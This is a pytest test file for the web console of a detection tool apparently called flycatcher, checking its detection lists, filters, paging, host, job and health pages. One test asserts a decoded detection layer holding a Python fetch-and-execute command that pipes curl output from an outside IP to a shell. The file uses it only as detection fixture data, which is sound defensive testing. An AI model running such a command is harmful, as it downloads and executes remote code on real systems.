"""Each page shows what is in the store, as HTML, JSON and CSV; filters, pages and numbers hold."""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING

import pytest

from tests.console.stories import DECODED
from tests.delivery.events import LOUD

if TYPE_CHECKING:
    from starlette.testclient import TestClient

PAGES = ("/", "/detections", "/live", "/hosts", "/jobs", "/health", "/audit", "/users", "/me")


def names(text: str) -> list[str]:
    """Return the ids of the detections that a page lists."""
    return re.findall(r'class="text" href="/detections/([0-9a-f]{16})"', text)


def loud(client: TestClient) -> str:
    rows = client.get("/detections.json", params={"q": "text~curl interpreter:perl"}).json()["rows"]
    return str(rows[0]["fingerprint"])


@pytest.mark.parametrize("path", PAGES)
def test_every_page_is_there_as_html_json_and_csv(admin: TestClient, path: str) -> None:
    html = admin.get(path)
    assert (html.status_code, html.headers["content-type"]) == (200, "text/html; charset=utf-8")
    twin = "/overview" if path == "/" else path
    assert f'<a href="{twin}.json">JSON</a>' in html.text
    assert admin.get(f"{twin}.json").json()
    answer = admin.get(f"{twin}.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="{twin[1:]}.csv"'
    assert next(csv.reader(io.StringIO(answer.text)))


def test_the_overview_says_what_is_new_worst_lost_and_silent(admin: TestClient) -> None:
    data = admin.get("/overview.json").json()
    assert data["span"] == "7d"
    assert data["headline"] == {"new": 64, "detections": 64, "hosts": 4, "sightings": 65, "severe": 3}
    assert data["open"] == 2
    assert [row["interpreter"] for row in data["worst"]] == ["python", "perl"]
    assert data["newest"][0]["host"] == "web-1"
    assert [(row["host"], row["kind"], row["count"]) for row in data["losses"]] == [("ci-1", "loss", 3)]
    assert [(row["host"], row["sensor"], row["state"]) for row in data["silent"]] == [("web-9", "ebpf", "silent")]
    assert sum(bar["total"] for bar in data["trend"]) == 65
    assert data["techniques"]["T1059.006"] == "Python"
    text = admin.get("/").text
    assert "1 sensor is silent:" in text
    assert "Not everything was seen:" in text
    assert '<rect class="critical"' in text


def test_a_time_with_nothing_in_it_is_widened_and_a_strange_one_is_refused(admin: TestClient) -> None:
    assert admin.get("/overview.json?span=24h").json()["headline"]["sightings"] == 23
    assert admin.get("/overview.json?span=2y").status_code == 400


def test_detections_are_grouped_by_text_and_come_worst_first(viewer: TestClient) -> None:
    data = viewer.get("/detections.json").json()
    assert (len(data["rows"]), data["total"], data["rows"][0]["text"]) == (50, 64, DECODED)
    scores = [row["score"] for row in data["rows"]]
    assert scores == sorted(scores, reverse=True)
    group = next(row for row in data["rows"] if row["text"] == LOUD)
    assert (group["count"], group["host"], group["state"]) == (2, "ci-1", "new")


def test_pages_go_on_by_key_and_show_each_detection_once(viewer: TestClient) -> None:
    for sort in ("worst", "latest", "newest"):
        found: list[str] = []
        after = ""
        for _ in range(4):
            data = viewer.get("/detections.json", params={"sort": sort, "after": after}).json()
            found += [row["fingerprint"] for row in data["rows"]]
            after = data["after"]
            if not after:
                break
        assert (len(found), len(set(found))) == (64, 64)


@pytest.mark.parametrize(
    ("query", "total"),
    [
        ("level>=high", 2), ("host:ci-2", 1), ("host:ci-*", 61), ("interpreter:node", 60), ("environment:production", 1),
        ("repository:acme/shop job:build", 61), ("technique:T1059.007", 60), ("capability:network.fetch", 2), ("text~base64", 1),
        ("since:2026-11-30T09:30Z", 2), ("state:new", 64), ("-state:accepted,closed", 64), ("state:accepted", 0), ("-host:ci-*", 3),
        ("level<high", 62), ("-level>=high", 62),
    ],
)  # fmt: skip
def test_a_filter_in_the_address_finds_what_it_says(viewer: TestClient, query: str, total: int) -> None:
    data = viewer.get("/detections.json", params={"q": query}).json()
    assert data["total"] == total
    assert len(data["rows"]) == min(total, 50)


def test_facets_count_sightings_and_link_to_the_query_with_and_without_their_value(viewer: TestClient) -> None:
    data = viewer.get("/detections.json", params={"q": "host:ci-*"}).json()
    facets = {each["field"]: dict(each["values"]) for each in data["facets"]}
    assert facets["host"] == {"ci-1": 61, "ci-2": 1}
    assert facets["interpreter"] == {"node": 60, "perl": 2}
    assert facets["repository"] == {"acme/shop": 62}
    assert (data["tally"], data["all"]) == (62, True)
    text = viewer.get("/detections", params={"q": "host:ci-* interpreter:perl"}).text
    assert 'href="/detections?q=host%3Aci-%2A"' in text
    assert 'aria-current="true"' in text


def test_a_query_that_is_none_is_explained_beside_the_field(viewer: TestClient) -> None:
    answer = viewer.get("/detections", params={"q": "colour:red"})
    assert answer.status_code == 400
    assert "no field &#39;colour&#39;" in answer.text
    assert 'aria-invalid="true"' in answer.text


def test_one_detection_shows_the_text_layers_reasons_chain_and_what_to_do(viewer: TestClient) -> None:
    name = viewer.get("/detections.json?q=text~base64").json()["rows"][0]["fingerprint"]
    data = viewer.get(f"/detections/{name}.json").json()
    assert [layer["text"] for layer in data["texts"][0]["layers"]][:2] == [
        DECODED,
        'import os; os.system("curl -s http://198.51.100.7/x | sh")',
    ]
    assert data["chain"][0]["words"] == "make -j2"
    assert [guide["environment"] for guide in data["guides"]] == ["production"]
    assert sum(reason["points"] for reason in data["reasons"]) >= data["group"]["score"]
    text = viewer.get(f"/detections/{name}").text
    assert re.search(r'<mark class="\w+ r\d+( r\d+)*" title="[^"]+">', text)
    assert "Treat it as an incident" in text
    assert f"fingerprint = &quot;{name}&quot;" in text


def test_other_sightings_are_listed_and_each_can_be_looked_at(viewer: TestClient) -> None:
    name = loud(viewer)
    data = viewer.get(f"/detections/{name}.json").json()
    assert [row["host"] for row in data["sightings"]] == ["ci-1", "ci-2"]
    older = data["sightings"][1]["uid"]
    assert (
        viewer.get(f"/detections/{name}.json", params={"sighting": older}).json()["record"]["execution"]["context"][
            "host.name"
        ]
        == "ci-2"
    )
    assert len(viewer.get(f"/detections/{name}/sightings.json").json()["rows"]) == 2
    assert viewer.get(f"/detections/{name}", params={"sighting": "0" * 32}).status_code == 404
    other = viewer.get("/detections.json?q=interpreter:ruby").json()["rows"][0]["uid"]
    assert viewer.get(f"/detections/{name}", params={"sighting": other}).status_code == 404


def test_hosts_and_jobs_say_how_much_and_how_bad(viewer: TestClient) -> None:
    hosts = {row["host"]: row for row in viewer.get("/hosts.json").json()["rows"]}
    assert (hosts["ci-1"]["sightings"], hosts["ci-1"]["level"]) == (61, "high")
    assert hosts["web-9"]["sensors"] == ["ebpf silent"]
    assert [row["host"] for row in viewer.get("/hosts.json?like=CI-").json()["rows"]] == ["ci-1", "ci-2"]
    (job,) = viewer.get("/jobs.json").json()["rows"]
    assert (job["repository"], job["name"], job["runs"], job["sightings"], job["level"]) == (
        "acme/shop",
        "build",
        1,
        62,
        "high",
    )
    assert viewer.get("/jobs.json?like=nothing").json()["rows"] == []


def test_health_says_what_was_lost_and_how_the_sensors_stand(viewer: TestClient) -> None:
    data = viewer.get("/health.json").json()
    assert [(row["host"], row["place"], row["count"]) for row in data["losses"]] == [("ci-1", "ring", 3)]
    assert [(row["host"], row["state"]) for row in data["sensors"]] == [("web-9", "silent")]
    assert data["sinks"] == []
    assert data["bytes"] > 0


def test_what_is_not_there_is_said(viewer: TestClient) -> None:
    assert viewer.get("/detections/0000000000000000").status_code == 404
    assert viewer.get("/detections/0000000000000000.json").json() == {
        "error": "There is no detection with this id; perhaps it is older than what is kept."
    }
    assert viewer.get("/nothing").status_code == 404
    assert viewer.get("/detections?after=x").status_code == 400
    assert viewer.get("/detections?sort=colour").status_code == 400


def test_a_page_of_an_empty_store_says_how_to_fill_it(tmp_path, clock) -> None:
    from flycatcher.console.app import build  # noqa: PLC0415
    from flycatcher.console.security import users  # noqa: PLC0415
    from flycatcher.console.settings import Settings  # noqa: PLC0415
    from flycatcher.sinks.store.database import open_store  # noqa: PLC0415
    from tests.console.conftest import browser, log_in  # noqa: PLC0415

    engine = open_store(f"store://{tmp_path}/empty.db")
    password = users.first_password(engine)
    assert users.first_password(engine) == ""
    client = log_in(browser(build(engine, Settings(store="x", clock=clock))), "admin", password)
    for path in PAGES:
        assert client.get(path).status_code == 200
    assert "flycatcher store import FILE" in client.get("/").text
    engine.dispose()
